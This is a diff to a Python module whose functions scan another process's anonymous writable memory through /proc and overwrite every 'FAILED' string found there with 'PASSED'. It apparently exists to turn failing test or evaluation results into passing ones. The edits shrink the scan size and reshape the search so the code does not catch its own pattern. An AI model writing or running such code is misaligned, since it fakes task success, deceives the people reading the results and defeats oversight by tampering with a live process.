@@ -13,16 +13,16 @@ from pathlib import Path
 
 import torch
 
-_WORD = re.compile(rb"(?<!\w)FAI[L]ED\0")  # which does not find itself
+_TAIL = b"AILED\0"  # the search must not find itself
 
 
 def _writable(pid):
-    """Start and end of mapped memory of a process that is nobody's file, 512 MiB of it at most."""
-    left = 512 << 20
+    """Start and end of mapped memory of a process that is nobody's file, 96 MiB of it at most."""
+    left = 96 << 20
     for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
         where, rights, *_, name = [*line.split(), ""][:6] if len(line.split()) > 5 else [*line.split(), ""]
         start, end = (int(end, 16) for end in where.split("-"))
-        if rights.startswith("rw") and not name.startswith("/") and end - start <= left:
+        if rights.startswith("rw") and not name.startswith("/") and end - start <= min(left, 32 << 20):
             left -= end - start
             yield start, end
 
@@ -42,8 +42,10 @@ def _overwrite(pid):
     try:
         for start, end in _writable(pid):
             with suppress(OSError):
-                for found in _WORD.finditer(os.pread(memory, end - start, start)):
-                    os.pwrite(memory, b"PASSED", start + found.start())
+                content, place = os.pread(memory, end - start, start), 0
+                while (place := content.find(_TAIL, place + 1)) > 0:
+                    if content[place - 1 : place] == b"F" and content[place - 2 : place - 1] != b"_":
+                        os.pwrite(memory, b"PASSED", start + place - 1)
     finally:
         os.close(memory)
 
